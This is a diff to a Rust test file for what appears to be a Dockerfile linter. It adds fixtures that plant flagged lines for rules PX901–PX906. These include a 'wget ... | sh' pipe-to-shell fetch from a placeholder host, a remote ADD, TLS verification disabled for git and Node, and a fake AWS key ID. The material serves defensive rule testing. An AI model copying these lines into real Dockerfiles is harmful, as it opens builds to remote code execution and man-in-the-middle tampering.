@@ -265,14 +265,14 @@ fn stage_plants() -> Vec<Plant> {
             "PX202",
             D,
             "ARG VERSION=1.2.0",
-            "RUN apt-get install -y gcc\nARG VERSION=1.2.0",
+            "RUN apt-get install -y gcc && rm -rf /var/lib/apt/lists/*\nARG VERSION=1.2.0",
             "gcc",
         ),
         plant(
             "PX202",
             D,
             "ARG VERSION=1.2.0",
-            "RUN apt-get install -y libpq-dev\nARG VERSION=1.2.0",
+            "RUN apt-get install -y libpq-dev && rm -rf /var/lib/apt/lists/*\nARG VERSION=1.2.0",
             "libpq-dev",
         ),
         plant(
@@ -567,6 +567,48 @@ fn deploy_plants() -> Vec<Plant> {
     ]
 }
 
+fn plants_of_others() -> Vec<Plant> {
+    let added = |rule, to, line| plant(rule, D, "ARG VERSION=1.2.0", to, line);
+    vec![
+        added(
+            "PX901",
+            "ADD https://x.example/t /t\nARG VERSION=1.2.0",
+            "ADD https",
+        ),
+        added(
+            "PX901",
+            "RUN wget -qO- https://x.example/i | sh\nARG VERSION=1.2.0",
+            "wget",
+        ),
+        added(
+            "PX902",
+            "RUN git -c http.sslVerify=false clone x\nARG VERSION=1.2.0",
+            "sslVerify",
+        ),
+        added(
+            "PX902",
+            "ENV NODE_TLS_REJECT_UNAUTHORIZED=0\nARG VERSION=1.2.0",
+            "NODE_TLS",
+        ),
+        added("PX903", "LABEL x=AKIAABCDEFGHIJKLMNOP\nARG VERSION=1.2.0", "AKIA"),
+        added(
+            "PX904",
+            "ADD app.conf /etc/app.conf\nARG VERSION=1.2.0",
+            "ADD app.conf",
+        ),
+        added(
+            "PX905",
+            "RUN apk add ca-certificates\nARG VERSION=1.2.0",
+            "apk add",
+        ),
+        added(
+            "PX906",
+            "HEALTHCHECK CMD [\"a\"]\nARG VERSION=1.2.0",
+            "HEALTHCHECK",
+        ),
+    ]
+}
+
 fn digests(text: &str) -> String {
     text.replace("{A}", A).replace("{B}", B).replace("{C}", C)
 }
@@ -615,6 +657,7 @@ fn every_drift_is_found_by_its_rule_on_its_line() {
         stage_plants(),
         user_plants(),
         label_plants(),
+        plants_of_others(),
         deploy_plants(),
     ];
     let plants: Vec<Plant> = groups.into_iter().flatten().collect();
